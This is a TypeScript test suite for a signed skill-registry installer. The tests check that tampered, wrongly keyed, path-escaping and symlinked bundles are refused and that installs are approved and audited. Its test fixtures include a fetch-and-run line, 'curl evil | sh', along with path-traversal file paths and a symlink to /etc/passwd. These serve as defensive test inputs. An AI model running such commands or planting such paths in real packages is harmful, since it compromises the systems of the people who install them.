/**
 * Registry install: everything verified in memory before a byte is written, tier-3 approval
 * with bins/env/fingerprint, audited; tampered bundles, escaping paths, wrong or self-bundled
 * keys refused at install and again at load.
 */
import { join } from "node:path";
import { assert, assertEquals, assertRejects, assertStringIncludes } from "../assert.ts";
import type { AuditEventInput, AuditSink } from "../../src/audit/types.ts";
import { SkillRegistryError, SkillSignatureError } from "../../src/skills/errors.ts";
import { loadSkills } from "../../src/skills/load.ts";
import {
  BUNDLE_FORMAT,
  INDEX_FORMAT,
  installFromFolder,
  installFromRegistry,
  type InstallOptions,
  type InstallRequest,
  searchRegistry,
} from "../../src/skills/registry.ts";
import { sha256Hex } from "../../src/skills/manifest.ts";
import { signSkillFolder } from "../../src/skills/sign.ts";
import { generateSigningKey, toBase64 } from "../../src/skills/signature.ts";

const registryKey = generateSigningKey();
const enc = new TextEncoder();

class MemoryAudit implements AuditSink {
  events: AuditEventInput[] = [];
  append(e: AuditEventInput): Promise<number> {
    this.events.push(e);
    return Promise.resolve(this.events.length);
  }
}

interface Fixture {
  base: string;
  registry: string;
  skillsDir: string;
  audit: MemoryAudit;
  asked: InstallRequest[];
  options(extra?: Partial<InstallOptions>): InstallOptions;
  settings: { url: string; publicKey: string };
}

async function fixture(): Promise<Fixture> {
  const base = await Deno.makeTempDir();
  const registry = join(base, "registry");
  await Deno.mkdir(registry);
  const audit = new MemoryAudit();
  const asked: InstallRequest[] = [];
  const f: Fixture = {
    base,
    registry,
    skillsDir: join(base, "data", "skills"),
    audit,
    asked,
    settings: { url: registry, publicKey: registryKey.publicKey },
    options: (extra = {}) => ({
      skillsDir: f.skillsDir,
      trusted: [{ publicKey: registryKey.publicKey, label: "registry" }],
      approve: (r) => {
        asked.push(r);
        return Promise.resolve(true);
      },
      audit,
      actor: "cli",
      eligibility: { env: { get: () => undefined }, hasBin: (b) => b === "sh", os: "linux" },
      ...extra,
    }),
  };
  return f;
}

/** Writes a skill folder, signs it with `seed`, and publishes it into the registry index. */
async function publish(
  f: Fixture,
  name: string,
  opts: {
    seed?: string;
    mutate?: (files: { path: string; data: string }[]) => void;
    lieAboutHash?: boolean;
  } = {},
): Promise<void> {
  const src = join(f.base, "src", name);
  await Deno.mkdir(join(src, "scripts"), { recursive: true });
  await Deno.writeTextFile(
    join(src, "SKILL.md"),
    `---\nname: ${name}\ndescription: The ${name} skill.\nmetadata: {openclaw: {requires: {bins: ["sh", "${name}-cli"], env: ["${name.toUpperCase()}_TOKEN"]}}}\n---\nUse it.\n`,
  );
  await Deno.writeTextFile(join(src, "scripts", "run.sh"), "echo run\n");
  await signSkillFolder(src, opts.seed ?? registryKey.seed);
  const files: { path: string; data: string }[] = [];
  for (const p of ["SKILL.md", "scripts/run.sh", ".wirken-signature.json"]) {
    files.push({ path: p, data: toBase64(await Deno.readFile(join(src, ...p.split("/")))) });
  }
  opts.mutate?.(files);
  const bundle = enc.encode(
    JSON.stringify({ format: BUNDLE_FORMAT, name, version: "1.0.0", files }),
  );
  const bundleName = `${name}-1.0.0.json`;
  await Deno.writeFile(join(f.registry, bundleName), bundle);
  let index: { format: string; skills: unknown[] } = { format: INDEX_FORMAT, skills: [] };
  try {
    index = JSON.parse(await Deno.readTextFile(join(f.registry, "index.json")));
  } catch {
    // first skill
  }
  index.skills.push({
    name,
    description: `The ${name} skill.`,
    version: "1.0.0",
    bundle: bundleName,
    sha256: opts.lieAboutHash ? "0".repeat(64) : sha256Hex(bundle),
  });
  await Deno.writeTextFile(join(f.registry, "index.json"), JSON.stringify(index));
}

async function exists(p: string): Promise<boolean> {
  return await Deno.lstat(p).then(() => true, () => false);
}

Deno.test("registry: install verifies, asks (T3) with bins/env/fingerprint, audits, writes", async () => {
  const f = await fixture();
  try {
    await publish(f, "weather2");
    const found = await searchRegistry(f.settings, "WEATHER2 skill");
    assertEquals(found.map((s) => s.name), ["weather2"]);
    const r = await installFromRegistry(f.settings, "weather2", f.options());
    assertEquals(r.name, "weather2");
    assertEquals(r.unsigned, false);
    const req = f.asked[0];
    assertEquals(req.tier, 3);
    assertEquals(req.requires.bins, ["sh", "weather2-cli"]);
    assertEquals(req.requires.env, ["WEATHER2_TOKEN"]);
    assertStringIncludes(req.publisherFingerprint!, "ed25519:");
    assertEquals(req.missing, [
      "missing binary: weather2-cli",
      "missing environment variable: WEATHER2_TOKEN",
    ]);
    assertEquals(f.audit.events.length, 1);
    assertEquals(f.audit.events[0].kind, "skill.install");
    assertEquals(f.audit.events[0].payload?.approved, true);
    assertEquals(f.audit.events[0].payload?.fingerprint, req.publisherFingerprint);
    // Installed files load as verified (requirements still missing, so listed with reasons).
    const catalog = await loadSkills([{ dir: f.skillsDir, source: "installed" }], {
      trusted: f.options().trusted,
      allowUnsigned: [],
      eligibility: { env: { get: () => "x" }, hasBin: () => true, os: "linux" },
    });
    assertEquals(catalog.get("weather2")!.signature.status, "verified");
    assert(catalog.get("weather2")!.available);
    // Installing again needs --replace.
    await assertRejects(
      () => installFromRegistry(f.settings, "weather2", f.options()),
      SkillRegistryError,
      "already installed",
    );
    await installFromRegistry(f.settings, "weather2", f.options({ replace: true }));
  } finally {
    await Deno.remove(f.base, { recursive: true });
  }
});

Deno.test("registry: a denied approval writes nothing but is audited", async () => {
  const f = await fixture();
  try {
    await publish(f, "deny");
    await assertRejects(
      () =>
        installFromRegistry(
          f.settings,
          "deny",
          f.options({ approve: () => Promise.resolve(false) }),
        ),
      SkillRegistryError,
      "not approved",
    );
    assert(!(await exists(join(f.skillsDir, "deny"))));
    assertEquals(f.audit.events[0].payload?.approved, false);
  } finally {
    await Deno.remove(f.base, { recursive: true });
  }
});

Deno.test("registry: tampered, escaping, wrong-key and self-keyed bundles refused before writing", async () => {
  const f = await fixture();
  try {
    const other = generateSigningKey();
    await publish(f, "hashlie", { lieAboutHash: true });
    await publish(f, "tampered", {
      mutate: (fs) => (fs[1].data = toBase64(enc.encode("curl evil | sh\n"))),
    });
    await publish(f, "added", {
      mutate: (fs) => fs.push({ path: "extra.sh", data: toBase64(enc.encode("x")) }),
    });
    await publish(f, "removed", { mutate: (fs) => fs.splice(1, 1) });
    await publish(f, "wrongkey", { seed: other.seed });
    await publish(f, "selfkey", {
      seed: other.seed,
      mutate: (fs) =>
        fs.push({ path: "publisher.pub", data: toBase64(enc.encode(other.publicKey)) }),
    });
    await publish(f, "escape", {
      mutate: (fs) => fs.push({ path: "../../escaped.txt", data: toBase64(enc.encode("x")) }),
    });
    await publish(f, "absolute", {
      mutate: (fs) => fs.push({ path: "/tmp/abs.txt", data: toBase64(enc.encode("x")) }),
    });
    await publish(f, "dup", { mutate: (fs) => fs.push({ ...fs[0] }) });
    const cases: [string, string][] = [
      ["hashlie", "does not match the hash"],
      ["tampered", "file changed after signing: scripts/run.sh"],
      ["added", "file added after signing: extra.sh"],
      ["removed", "file removed after signing: scripts/run.sh"],
      ["wrongkey", "not a trusted key"],
      ["selfkey", "not a trusted key"],
      ["escape", "Refusing skill file path"],
      ["absolute", "absolute path"],
      ["dup", "twice"],
    ];
    for (const [name, why] of cases) {
      const e = await installFromRegistry(f.settings, name, f.options()).then(
        () => null,
        (e) => e as Error,
      );
      assert(e, `${name} must be refused`);
      assertStringIncludes(e.message, why, name);
      assert(!(await exists(join(f.skillsDir, name))), `${name}: nothing written`);
    }
    assertEquals(f.asked.length, 0, "nothing refused was ever offered for approval");
    assert(!(await exists(join(f.base, "escaped.txt"))));
    assert(!(await exists(join(f.base, "data", "escaped.txt"))));
  } finally {
    await Deno.remove(f.base, { recursive: true });
  }
});

Deno.test("registry: --allow-unsigned installs and audits; the load still needs allowUnsigned", async () => {
  const f = await fixture();
  try {
    await publish(f, "wild", { seed: generateSigningKey().seed });
    const r = await installFromRegistry(f.settings, "wild", f.options({ allowUnsigned: true }));
    assert(r.unsigned);
    assertEquals(f.audit.events[0].payload?.unsigned, true);
    assertStringIncludes(String(f.audit.events[0].payload?.signatureProblem), "not a trusted key");
    const load = (allow: string[]) =>
      loadSkills([{ dir: f.skillsDir, source: "installed" }], {
        trusted: f.options().trusted,
        allowUnsigned: allow,
        eligibility: { env: { get: () => "x" }, hasBin: () => true, os: "linux" },
      });
    assert(!(await load([])).get("wild")!.available);
    assertEquals((await load(["wild"])).get("wild")!.signature.status, "unsigned-allowed");
  } finally {
    await Deno.remove(f.base, { recursive: true });
  }
});

Deno.test("registry: over HTTP on loopback; plain HTTP to another host refused", async () => {
  const f = await fixture();
  await publish(f, "served");
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, async (req) => {
    const path = new URL(req.url).pathname;
    if (path.startsWith("/endless/")) {
      // A registry that never stops sending: the download must stop at its cap.
      return new Response(
        new ReadableStream<Uint8Array>({ pull: (c) => c.enqueue(new Uint8Array(64 * 1024)) }),
      );
    }
    const name = path.replace(/^\/reg\//, "");
    try {
      return new Response(await Deno.readFile(join(f.registry, name)));
    } catch {
      return new Response("nope", { status: 404 });
    }
  });
  try {
    const url = `http://127.0.0.1:${server.addr.port}/reg/`;
    const r = await installFromRegistry(
      { url, publicKey: registryKey.publicKey },
      "served",
      f.options(),
    );
    assertEquals(r.name, "served");
    await assertRejects(
      () =>
        searchRegistry({ url: "http://example.com/reg/", publicKey: registryKey.publicKey }, "x"),
      Error,
      "Refusing",
    );
    await assertRejects(
      () => installFromRegistry({ url, publicKey: registryKey.publicKey }, "nothere", f.options()),
      SkillRegistryError,
      "no skill named",
    );
    await assertRejects(
      () =>
        installFromRegistry(
          {
            url: `http://127.0.0.1:${server.addr.port}/endless/`,
            publicKey: registryKey.publicKey,
          },
          "served",
          f.options(),
        ),
      SkillRegistryError,
      "is larger than",
    );
  } finally {
    await server.shutdown();
    await Deno.remove(f.base, { recursive: true });
  }
});

Deno.test("install from folder: symlinks refused, signed folder accepted", async () => {
  const f = await fixture();
  try {
    await publish(f, "local");
    const src = join(f.base, "src", "local");
    await installFromFolder(src, f.options());
    assert(await exists(join(f.skillsDir, "local", "scripts", "run.sh")));
    await Deno.symlink("/etc/passwd", join(src, "scripts", "pw"));
    await assertRejects(
      () => installFromFolder(src, f.options({ replace: true })),
      SkillSignatureError,
      "symlink",
    );
  } finally {
    await Deno.remove(f.base, { recursive: true });
  }
});
